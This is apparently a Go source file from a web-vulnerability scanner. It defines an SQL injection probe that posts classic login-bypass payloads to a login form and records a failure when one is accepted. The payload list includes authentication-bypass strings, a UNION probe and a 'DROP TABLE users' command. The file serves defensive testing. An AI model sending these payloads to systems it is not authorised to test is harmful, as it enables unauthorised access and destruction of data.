package probe

import (
	"context"
	"net/http"
	"net/url"

	"github.com/webvet/webvet/internal/transport"
)

// Classic boolean/comment SQL injection strings for a login form.
var sqlPayloads = []Payload{
	"admin' OR '1'='1",
	"admin'--",
	"admin' OR '1'='1'--",
	"'; DROP TABLE users;--",
	"' UNION SELECT NULL--",
	"1' AND '1'='1",
}

// SQLInjection posts each payload as the credential field of the login
// form. A response that looks authenticated means the input reached the
// query unsanitized.
type SQLInjection struct {
	profile Profile
}

func NewSQLInjection(profile Profile) *SQLInjection {
	return &SQLInjection{profile: profile}
}

func (s *SQLInjection) Category() Category {
	return CategorySQLInjection
}

func (s *SQLInjection) Payloads() []Payload {
	return append([]Payload{}, sqlPayloads...)
}

func (s *SQLInjection) Execute(ctx context.Context, sess *transport.Session, payload Payload) (*transport.Response, error) {
	form := url.Values{
		s.profile.UsernameField: {string(payload)},
		s.profile.PasswordField: {"test"},
		"action":                {"login"},
		s.profile.TokenField:    {"test"},
	}
	return sess.Send(ctx, http.MethodPost, s.profile.LoginPath, form, transport.SendOptions{FollowRedirects: true})
}

func (s *SQLInjection) Classify(resp *transport.Response, payload Payload) Finding {
	if s.profile.successIndicated(resp.Body) {
		return Finding{
			Category: CategorySQLInjection,
			Verdict:  VerdictFail,
			Message:  "login accepted an injection payload",
			Detail:   TruncatePayload(payload),
		}
	}
	return Finding{
		Category: CategorySQLInjection,
		Verdict:  VerdictPass,
		Message:  "injection payload rejected",
		Detail:   TruncatePayload(payload),
	}
}
